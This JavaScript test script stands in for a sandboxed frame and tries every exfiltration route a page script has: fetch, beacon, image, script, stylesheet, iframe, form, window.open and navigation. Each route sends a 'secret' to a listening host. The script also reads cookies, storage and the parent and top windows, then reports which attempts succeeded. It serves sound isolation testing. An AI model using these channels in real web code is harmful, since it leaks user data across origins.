/**
 * Stands in for the script of the frame and tries every way out that a script in a window has. The page posts the host
 * that listens and a port, which is answered with an object from the name of each attack to "done", or to what stopped
 * it.
 */
const secret = "?secret";

const added = (tag, properties) => new Promise((done, failed) => {
  const node = Object.assign(document.createElement(tag), properties);
  node.addEventListener("load", done);
  node.addEventListener("error", () => failed(new Error("refused")));
  document.head.append(node);
});

const attacks = {
  fetch: (host) => fetch(`http://${host}/fetch${secret}`, { mode: "no-cors" }),
  beacon: (host) => { if (!navigator.sendBeacon(`http://${host}/beacon${secret}`)) throw new Error("refused"); },
  image: (host) => added("img", { src: `http://${host}/image${secret}` }),
  script: (host) => added("script", { src: `http://${host}/script${secret}` }),
  "own script": () => added("script", { src: `${location.origin}/static/js/text.js${secret}` }),
  style: (host) => added("link", { rel: "stylesheet", href: `http://${host}/style${secret}` }),
  frame: (host) => added("iframe", { src: `http://${host}/frame${secret}` }),
  form: (host) => {
    const form = Object.assign(document.createElement("form"), { action: `http://${host}/form${secret}` });
    document.documentElement.append(form);
    form.submit();
  },
  open: (host) => { if (!open(`http://${host}/open${secret}`)) throw new Error("refused"); },
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  database: () => indexedDB.open("secret"),
  "parent's title": () => parent.document.title,
  "parent's storage": () => parent.localStorage.length,
  "top's cookies": () => top.document.cookie,
  "top's place": (host) => { top.location = `http://${host}/top${secret}`; },
};

const run = async (host, port) => {
  const outcomes = {};
  await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
    const silence = new Promise((done) => setTimeout(done, 1000, "silence"));
    const outcome = (async () => attack(host))().then(() => "done", String);
    outcomes[name] = String(await Promise.race([outcome, silence]));
  }));
  port.postMessage(outcomes);
  // The last one: it would end this script.
  location = `http://${host}/navigation${secret}`;
};

new BroadcastChannel("test").postMessage("secret");
addEventListener("message", ({ data, ports }) => run(data, ports[0]));
